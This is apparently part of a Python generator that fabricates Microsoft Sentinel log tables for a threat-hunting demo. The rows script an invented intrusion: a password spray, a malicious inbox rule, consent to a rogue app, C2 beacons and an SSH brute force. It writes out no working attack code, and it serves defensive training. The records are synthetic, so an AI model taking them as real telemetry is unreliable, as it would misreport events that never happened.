        status["additionalDetails"] = "MFA requirement satisfied by claim in the token"
    req_id = guid()
    risk = risk or {}
    # one correlation id for a client's background refreshes of a user's session in a day
    correlation = SESSION_CORRELATION.setdefault((user["key"], app, ip, t // DAY), guid())
    emit("AADNonInteractiveUserSignInLogs", t, AppDisplayName=app, AppId=app_id, AuthenticationProtocol="none",
         AuthenticationRequirement="multiFactorAuthentication" if mfa_claim else "singleFactorAuthentication",
         AutonomousSystemNumber=asn, Category="NonInteractiveUserSignInLogs", ClientAppUsed=client_app,
         ConditionalAccessPolicies="[]", ConditionalAccessStatus="notApplied", CorrelationId=correlation,
         CreatedDateTime=t, CrossTenantAccessType="none", DeviceDetail=dyn(device), DurationMs=0,
         HomeTenantId=AAD_TENANT_ID, Id=req_id, Identity=user["display"], IPAddress=ip, IsInteractive=False,
         IsRisky=bool(risk), Level="4", Location=cc, LocationDetails=dyn(loc_details),
         MfaDetail=dyn({}), NetworkLocationDetails="[]", OperationName="Sign-in activity",
         OperationVersion="1.0", OriginalRequestId=req_id, ProcessingTimeInMs=str(RNG.randrange(20, 180)),
         ResourceDisplayName=resource, ResourceGroup="Microsoft.aadiam", ResourceTenantId=AAD_TENANT_ID,
         ResultDescription=NONINTERACTIVE_ERRORS[result], ResultSignature="None", ResultType=result,
         RiskDetail=risk.get("detail", "none"), RiskEventTypes=dyn(risk.get("events_v1", [])),
         RiskEventTypes_V2=dyn(risk.get("events", [])), RiskLevelAggregated=risk.get("level", "none"),
         RiskLevelDuringSignIn=risk.get("level", "none"), RiskState=risk.get("state", "none"),
         SignInEventTypes='["nonInteractiveUser"]', SignInIdentifierType="", SourceSystem="Azure AD",
         Status=dyn(status), TokenIssuerType="AzureAD", UserAgent=ua, UserDisplayName=user["display"],
         UserId=user["id"], UserPrincipalName=user["upn"], UserType="Member")


def gen_noninteractive(n_benign=750):
    desktop_ua = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                  "Chrome/114.0.5735.289 Electron/25.9.3 Safari/537.36")
    apps = [("Microsoft Teams", 30), ("Microsoft Office", 18), ("Microsoft Outlook", 22), ("OneDrive SyncEngine", 16),
            ("Windows Sign In", 8)]
    for _ in range(n_benign):
        user = pick(USER_LIST)
        t = work_time(user["tz"])
        app = wpick(apps)
        ip, asn, city, mobile = user_public_ip(user, t)
        if mobile:
            device = {"deviceId": "", "operatingSystem": "Ios 17.2.1", "browser": "Mobile Safari 17.2"}
            ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                  "Mobile/15E148 Teams/6.1.0")
        else:
            device = {"deviceId": user["device_id"], "operatingSystem": user["os"], "browser": "Rich Client 4.56.0.0",
                      "isCompliant": True, "isManaged": True,
                      "trustType": "Hybrid Azure AD joined" if user["os"] != "MacOs" else "Azure AD registered"}
            ua = {"Windows Sign In": "Windows-AzureAD-Authentication-Provider/1.0",
                  "OneDrive SyncEngine": "Microsoft SkyDriveSync 23.246.1127.0002 ship; Windows NT 10.0 (19045)"
                  }.get(app, desktop_ua)
        result = wpick([("0", 96), ("50173", 2), ("70043", 1), ("50133", 1)])
        noninteractive(t, user, app, ip, asn, location(ip, user, city), device, ua, result=result,
                       mfa_claim=result == "0" and RNG.random() < 0.6)
    # The story: the attacker's browser session refreshes its Exchange token after each mailbox visit, and the
    # consented app reads mike.jones's mail and files through Microsoft Graph about every hour until the end.
    attacker_device = {"deviceId": "", "operatingSystem": "Linux", "browser": "Firefox 115.0"}
    risky = {"level": "medium", "state": "atRisk", "detail": "none", "events": ["anonymizedIPAddress"],
             "events_v1": ["anonymizedIPAddress"]}
    loc = location(ATTACKER_IP)
    asn = SPRAY_IPS[ATTACKER_IP][5]
    for t0 in [OWA_SIGNIN] + ATTACKER_MAIL_SESSIONS:
        for k in range(2):
            noninteractive(t0 + (k + 1) * RNG.randrange(4 * MINUTE, 9 * MINUTE), VICTIM, "Office 365 Exchange Online",
                           ATTACKER_IP, asn, loc, attacker_device, ATTACKER_UA, risk=risky, client_app="Browser")
    t = FIRST_APP_TOKEN
    app_device = {"deviceId": "", "operatingSystem": "", "browser": ""}
    while t <= END_T - 5 * MINUTE:
        noninteractive(t, VICTIM, ROGUE_APP, ATTACKER_IP, asn, loc, app_device, ROGUE_APP_UA, risk=risky)
        t += RNG.randrange(50 * MINUTE, 70 * MINUTE)


# Sentinel watchlists as the Watchlist table stores them: a row per version of an item (_DTItemStatus Create, Update
# or Delete), read with _GetWatchlist('alias'). No random numbers: the ids are name-based UUIDs.
SCHEMAS["Watchlist"] = """
    CreatedBy:dynamic CreatedTimeUTC:datetime LastUpdatedTimeUTC:datetime SearchKey:string TenantId:string
    TimeGenerated:datetime Type:string UpdatedBy:dynamic WatchlistAlias:string WatchlistId:string
    WatchlistItem:dynamic WatchlistName:string _DTItemId:string _DTItemStatus:string _DTItemType:string
    _DTTimestamp:datetime
"""
TABLE_ORDER.append("Watchlist")
TABLES["Watchlist"] = []


def gen_watchlists():
    """VIPUsers (mike.jones, whose MFA the attacker registers, is one), BreakGlassAccounts (two accounts that never
    sign in, a third deleted the day after it was added) and Accounts (the admins whose group changes to watch)."""
    owner = dyn({"objectId": str(uuid.uuid5(uuid.NAMESPACE_DNS, "soc-lead")), "fullName": "SOC Lead",
                 "email": f"soc.lead@{DOMAIN}"})
    lists = [("VIPUsers", "VIP Users", "User Principal Name",
              [{"User Principal Name": VICTIM_UPN, "Display Name": VICTIM["display"], "Tags": "Finance, VIP"}]
              + [{"User Principal Name": a["upn"], "Display Name": a["display"], "Tags": "Admin, VIP"} for a in ADMINS[:1]]),
             ("BreakGlassAccounts", "Break-glass accounts", "AccountUPN",
              [{"AccountUPN": f"breakglass0{i}@{DOMAIN}", "Notes": "emergency access, cloud-only"} for i in (1, 2, 3)]),
             ("Accounts", "Privileged accounts", "Users", [{"Users": a["upn"]} for a in ADMINS[:2]])]
    created = START_T + 2 * HOUR
    for alias, name, key, items in lists:
        wid = str(uuid.uuid5(uuid.NAMESPACE_DNS, alias))
        versions = [(created, "Create", it) for it in items]
        if alias == "BreakGlassAccounts":   # breakglass03 was added by mistake and deleted a day later
            versions.append((created + DAY, "Delete", items[2]))
        for t, status, it in versions:
            emit("Watchlist", t, CreatedBy=owner, UpdatedBy=owner, CreatedTimeUTC=created, LastUpdatedTimeUTC=t,
                 SearchKey=it[key], WatchlistAlias=alias, WatchlistId=wid, WatchlistItem=dyn(it), WatchlistName=name,
                 _DTItemId=str(uuid.uuid5(uuid.NAMESPACE_DNS, alias + it[key])), _DTItemStatus=status,
                 _DTItemType="watchlist-item", _DTTimestamp=t)


def gen_extra_tables():
    """AuditLogs and AADNonInteractiveUserSignInLogs, on their own random generator."""
    global RNG
    main_rng, RNG = RNG, random.Random(EXTRA_SEED)
    try:
        gen_auditlogs()
        gen_noninteractive()
    finally:
        RNG = main_rng


# ---------------------------------------------------------------------------------------------------------------
# Output
# ---------------------------------------------------------------------------------------------------------------

def cell(value, la_type, table, column):
    if value is None or (value == "" and la_type != "string"):
        return "" if la_type == "string" else None
    if la_type == "datetime":
        assert isinstance(value, int), (table, column, value)
        return fmt_ts(value)
    if la_type in ("int", "long"):
        assert isinstance(value, int) and not isinstance(value, bool), (table, column, value)
    elif la_type == "real":
        assert isinstance(value, (int, float)) and not isinstance(value, bool), (table, column, value)
        value = float(value)
    elif la_type == "bool":
        assert isinstance(value, bool), (table, column, value)
    else:   # string, guid, dynamic, timespan: text
        assert isinstance(value, str), (table, column, value)
        if la_type == "dynamic":
            json.loads(value)
    return value


# Row order: each table is one entity's timeline after another (as `order by <key> asc, TimeGenerated asc` would
# give), which keeps similar rows together and the gzip small. Nothing should rely on the order.
ROW_ORDER = {"SigninLogs": "UserPrincipalName", "SecurityEvent": "Computer", "OfficeActivity": "UserId",
             "Syslog": "Computer", "AzureActivity": "Caller", "CommonSecurityLog": "SourceIP",
             "DnsEvents": "ClientIP", "Heartbeat": "Computer", "AADNonInteractiveUserSignInLogs": "UserPrincipalName"}


# Log Analytics' standard columns, after each table's own ones. A workspace does not show them unless a query names
# them (huntbook's KQL does the same, see README "Standard columns"). They are derived from the row, never from the
# random generator, so adding them changed no other value. _ItemId (a GUID a row), _BilledSize and _TimeReceived are
# left out: they would add about 0.5 MB to the gzip and no published query in the corpus reads them.
STANDARD_COLUMNS = [("_ResourceId", "string"), ("_SubscriptionId", "string"), ("_IsBillable", "string")]
FREE_TABLES = {"AzureActivity", "Heartbeat", "OfficeActivity", "SecurityAlert", "Watchlist"}   # not billed in a Sentinel workspace


def arc_machine(computer):
    """The Azure Arc resource id of a demo computer (its agent reports through Arc, in rg-monitoring)."""
    return (f"/subscriptions/{SUBSCRIPTION_ID}/resourcegroups/rg-monitoring/providers/microsoft.hybridcompute/"
            f"machines/{short(computer).lower()}")


def standard_columns(name, r):
    if name in ("SigninLogs", "AuditLogs", "AADNonInteractiveUserSignInLogs"):
        rid = AAD_RESOURCE_ID.lower()
    elif name in ("SecurityEvent", "Syslog", "Heartbeat", "DnsEvents"):
        rid = arc_machine(r["Computer"])
    elif name in ("AzureActivity", "SecurityAlert"):
        rid = r.get("ResourceId", "").lower()
    else:   # OfficeActivity, CommonSecurityLog (a firewall), ThreatIntelligenceIndicator: no Azure resource
        rid = ""
    return {"_ResourceId": rid, "_SubscriptionId": SUBSCRIPTION_ID if rid.startswith("/subscriptions/") else "",
            "_IsBillable": "False" if name in FREE_TABLES else "True"}


def build_response():
    tables = []
    for name in TABLE_ORDER:
        cols = columns_of(name) + STANDARD_COLUMNS
        known = {c for c, _ in cols} | {"_t"}
        key = ROW_ORDER.get(name)
        rows = []
        for r in sorted(TABLES[name], key=lambda r: (r.get(key, "") if key else "", r["_t"])):
            unknown = sorted(k for k in r if k not in known)
            assert not unknown, (name, unknown)
            same_time = {}   # a row's copies of one instant (e.g. CreatedDateTime) get the same text
            r = dict(r, **standard_columns(name, r))
            row = []
            for c, ty in cols:
                v = r.get(c)
                if ty == "datetime" and isinstance(v, int):
                    if v not in same_time:
                        same_time[v] = cell(v, ty, name, c)
                    row.append(same_time[v])
                else:
                    row.append(cell(v, ty, name, c))
            rows.append(row)
        tables.append({"name": name, "columns": [{"name": c, "type": ty} for c, ty in cols], "rows": rows})
    return {"tables": tables}


def check():
    """The promises the README makes about the data."""
    newest = max(r["_t"] for rows in TABLES.values() for r in rows)
    assert newest == END_T, iso(newest)
    for name, rows in TABLES.items():
        times = [r["_t"] for r in rows]
        assert min(times) >= START_T and max(times) <= END_T, name
        last_day = sum(1 for x in times if x > END_T - DAY)
        assert last_day >= (24 if name in ("SigninLogs", "OfficeActivity") else name != "Watchlist"), (name, last_day)
        for r in rows:
            for c, ty in columns_of(name):
                if ty == "datetime" and c != "ExpirationDateTime" and isinstance(r.get(c), int):
                    assert START_T - DAY <= r[c] <= END_T, (name, c, iso(r[c]))


def story_summary():
    """Facts about the story (printed so README.md can be checked against them)."""
    sl = TABLES["SigninLogs"]
    spray = [r for r in sl if r["IPAddress"] in SPRAY_IPS and r["AppDisplayName"] ==
             "Azure Active Directory PowerShell"]
    fails = [r for r in spray if r["ResultType"] == "50126"]
    c2_dns = [r for r in TABLES["DnsEvents"] if r["Name"] == C2_DOMAIN]
    c2_fw = [r for r in TABLES["CommonSecurityLog"] if r["DestinationIP"] == C2_IP]
    lines = [
        f"spray: {len(fails)} failures (50126) + {len(spray) - len(fails)} success, "
        f"{iso(min(r['_t'] for r in spray), 0)} .. {iso(max(r['_t'] for r in spray), 0)}",
        "spray 4625 on SRV-DC01: "
        f"{sum(1 for r in TABLES['SecurityEvent'] if r['EventID'] == 4625 and r.get('IpAddress') in SPRAY_IPS)}",
        f"success: {iso(SPRAY_SUCCESS, 0)}; OWA {iso(OWA_SIGNIN, 0)}; inbox rule {iso(INBOX_RULE, 0)}; portal "
        f"{iso(PORTAL_SIGNIN, 0)}; role {iso(ROLE_ASSIGNMENT, 0)}; VM {iso(VM_CREATE, 0)}",
        f"attacker sign-ins from {ATTACKER_IP}: "
        f"{sum(1 for r in sl if r['IPAddress'] == ATTACKER_IP and r['ResultType'] == '0')} successful "
        f"(later mailbox sessions: {len(ATTACKER_MAIL_SESSIONS)})",
        f"attacker OfficeActivity rows: {sum(1 for r in TABLES['OfficeActivity'] if r['ClientIP'] == ATTACKER_IP)}",
        f"attacker AzureActivity rows: {sum(1 for r in TABLES['AzureActivity'] if r['CallerIpAddress'] == ATTACKER_IP)}",
        f"C2: {len(c2_dns)} DnsEvents, {len(c2_fw)} CommonSecurityLog rows ({len(BEACONS)} beacons "
        f"{iso(BEACONS[0], 0)} .. {iso(BEACONS[-1], 0)})",
        f"ssh brute force from {SSH_BRUTE_IP}: {len(SSH_BRUTE_ATTEMPTS)} attempts from {iso(SSH_BRUTE_START, 0)}, "
        f"{sum(1 for r in TABLES['Syslog'] if SSH_BRUTE_IP in r['SyslogMessage'])} Syslog lines",
        f"encoded command: {ENCODED_CMDLINE}",
        f"Entra ID: security info {iso(MFA_START, 0)}, consent to {ROGUE_APP} {iso(APP_CONSENT, 0)}; AuditLogs rows "
        f"from {ATTACKER_IP}: {sum(1 for r in TABLES['AuditLogs'] if ATTACKER_IP in r['InitiatedBy'])}, "
        f"AADNonInteractiveUserSignInLogs rows: "
        f"{sum(1 for r in TABLES['AADNonInteractiveUserSignInLogs'] if r['IPAddress'] == ATTACKER_IP)}",
    ]
    return lines


def datetime_ns(text):
    """Nanoseconds since the epoch of a datetime cell ("2024-01-14T23:59:59.1234567Z"), for comparing them."""
    whole, _, frac = text.rstrip("Z").partition(".")
    secs = int(datetime.strptime(whole, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=timezone.utc).timestamp())
    return secs * 10**9 + int((frac + "000000000")[:9])


def pack(response):
    """The file's bytes: the Log Analytics JSON of `response` as one gzip member laid out for reading one table at a
    time (issue #16's cold start).

    Any gzip reader (a browser un-gzipping a `Content-Encoding: gzip` response too) returns the whole JSON. Inside
    the member's deflate stream: first `{"huntbookIndex":{...},"tables":[` in "stored" (uncompressed) blocks, then
    each table's JSON (after a comma from the second on) compressed with a full flush after it (so its bytes
    inflate on their own), then `]}`. The index lists each table's name, row count, newest TimeGenerated (as its
    cells write it) and where its compressed bytes are (`offset`, `length`, counted from the end of the stored
    blocks), so loadDemo() lists the tables at once (the schemas from the first bytes of each table, where its
    JSON has its columns before its rows) and reads a table only when a query asks for it (src/demo.rs).
    Returns (the JSON text, the file's bytes)."""
    assert set(response) == {"tables"}, f"only tables are packed, not {sorted(response)}"
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    texts, parts, index, offset = [], [], [], 0
    for k, t in enumerate(response["tables"]):
        assert list(t)[:3] == ["name", "columns", "rows"], "the columns come before the rows"
        text = (b"," if k else b"") + json.dumps(t, separators=(",", ":"), ensure_ascii=False).encode("utf-8")
        part = deflate.compress(text) + deflate.flush(zlib.Z_FULL_FLUSH)
        cols = [c["name"] for c in t["columns"]]
        tg = cols.index("TimeGenerated") if "TimeGenerated" in cols else None
        times = [r[tg] for r in t["rows"] if tg is not None and r[tg]]
        index.append({"name": t["name"], "rows": len(t["rows"]),
                      "newest": max(times, key=datetime_ns) if times else None,
                      "offset": offset, "length": len(part)})
        texts.append(text)
        parts.append(part)
        offset += len(part)
    tail = b"]}"
    parts.append(deflate.compress(tail) + deflate.flush(zlib.Z_FINISH))
    head = b'{"huntbookIndex":' + json.dumps({"version": 2, "tables": index}, separators=(",", ":"),
                                             ensure_ascii=False).encode("utf-8") + b',"tables":['
    text = head + b"".join(texts) + tail
    stored = bytearray()
    for at in range(0, len(head), 65535):   # not final: the tables' blocks follow
        block = head[at:at + 65535]
        stored += b"\x00" + struct.pack("<HH", len(block), len(block) ^ 0xFFFF) + block
    gzip_header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"   # deflate, no flags, mtime 0, OS unknown
    trailer = struct.pack("<II", zlib.crc32(text), len(text) & 0xFFFFFFFF)
    return text, gzip_header + bytes(stored) + b"".join(parts) + trailer


def main():
    gen_syslog()                # first: the scanners and the ssh run are reused by other tables
    gen_signinlogs()            # also writes the spray's 4625/4624 events on SRV-DC01
    gen_securityevent()
    gen_officeactivity()
    gen_azureactivity()
    gen_commonsecuritylog()
    gen_dnsevents()
    gen_c2()
    gen_heartbeat()
    gen_securityalert()
    gen_threatintel()
    gen_extra_tables()       # last, on its own random generator: the tables above do not change
    gen_watchlists()         # no random numbers
    check()

    text, data = pack(build_response())
    assert len(data) <= MAX_GZ_BYTES, f"{len(data)} bytes is over the {MAX_GZ_BYTES} byte budget"
    with open(OUT_PATH, "wb") as f:
        f.write(data)

    for name in TABLE_ORDER:
        print(f"{name:28} {len(TABLES[name]):6} rows")
    print(f"{'total':28} {sum(len(v) for v in TABLES.values()):6} rows")
    print(f"JSON {len(text):,} bytes, gzip {len(data):,} bytes -> {OUT_PATH}")
    for line in story_summary():
        print("  " + line)


if __name__ == "__main__":
    sys.exit(main())
